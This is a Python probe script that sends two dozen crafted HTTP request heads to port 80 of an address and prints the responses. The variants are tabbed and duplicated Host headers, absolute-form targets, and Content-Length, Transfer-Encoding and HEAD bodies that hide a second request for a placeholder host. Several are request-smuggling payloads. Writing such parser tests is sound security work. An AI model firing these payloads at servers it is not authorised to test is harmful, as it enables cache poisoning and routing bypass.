#!/usr/bin/env python3
"""httpvar.py ADDR [NAME...]: sends each request-head variant below (Host
spellings, absolute-form targets, framing a server could read otherwise,
bodies hiding a request for b.test) on a connection of its own to ADDR:80
and prints NAME => what came back."""
import socket, sys, time
dst = sys.argv[1]
variants = [
 ("tab-before", b"GET /v1 HTTP/1.1\r\nHost:\ta.test\r\n\r\n"),
 ("tab-after", b"GET /v2 HTTP/1.1\r\nHost: a.test\t\r\n\r\n"),
 ("trail-dot", b"GET /v3 HTTP/1.1\r\nHost: a.test.\r\n\r\n"),
 ("abs", b"GET http://a.test/v4 HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("abs-upper-port", b"GET HTTP://A.TEST:80/v5 HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("abs-noslash", b"GET http://a.test HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("abs-query", b"GET http://a.test?x=http://b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("port0", b"GET /v8 HTTP/1.1\r\nHost: a.test:0\r\n\r\n"),
 ("port-lead0", b"GET /v9 HTTP/1.1\r\nHost: a.test:00080\r\n\r\n"),
 ("underscore", b"GET /v10 HTTP/1.1\r\nHost: a.test\r\nHo_st: b.test\r\n\r\n"),
 ("cl-tab", b"POST /v11 HTTP/1.1\r\nHost: a.test\r\nContent-Length:\t40\r\n\r\nGET /s11 HTTP/1.1\r\nHost: b.test\r\n\r\n"),
 ("te-tab", b"POST /v12 HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\nGET /s12 HTTP/1.1\r\nHost: b.test\r\n\r\n"),
 ("expect", b"POST /v13 HTTP/1.1\r\nHost: a.test\r\nExpect: 100-continue\r\nContent-Length: 36\r\n\r\nGET /s13 HTTP/1.1\r\nHost: b.test\r\n\r\n"),
 ("options-star", b"OPTIONS * HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("http10-host", b"GET /v15 HTTP/1.0\r\nHost: a.test\r\n\r\n"),
 ("lead-crlf", b"\r\nGET /v16 HTTP/1.1\r\nHost: a.test\r\n\r\n"),
 ("upgrade-h2c", b"GET /v17 HTTP/1.1\r\nHost: a.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"),
 ("host-dotdot", b"GET /v18 HTTP/1.1\r\nHost: a.test..\r\n\r\n"),
 ("head-body", b"HEAD /v19 HTTP/1.1\r\nHost: a.test\r\nContent-Length: 36\r\n\r\nGET /s19 HTTP/1.1\r\nHost: b.test\r\n\r\n"),
 ("get-cl0", b"GET /v20 HTTP/1.1\r\nHost: a.test\r\nContent-Length: 0\r\n\r\n"),
 ("chunk-ext", b"POST /v21 HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n2;a=\"x\r\n\"\r\nab\r\n0\r\n\r\n"),
 ("chunk-trailer-host", b"POST /v22 HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: b.test\r\n\r\n"),
 ("dup-host-case", b"GET /v23 HTTP/1.1\r\nHost: a.test\r\nhOST: b.test\r\n\r\n"),
 ("host-upper", b"GET /v24 HTTP/1.1\r\nHOST: A.TEST\r\n\r\n"),
]
only = sys.argv[2:] 
for name, req in variants:
    if only and name not in only: continue
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((dst, 80))
        s.sendall(req)
        out = b""
        t0 = time.time()
        while time.time() - t0 < 1.5:
            try:
                d = s.recv(65536)
            except socket.timeout:
                break
            except OSError as e:
                out += b"<" + str(e).encode() + b">"
                break
            if not d: break
            out += d
    except OSError as e:
        out = b"<" + str(e).encode() + b">"
    s.close()
    print(name, "=>", repr(out[:300]))
    sys.stdout.flush()
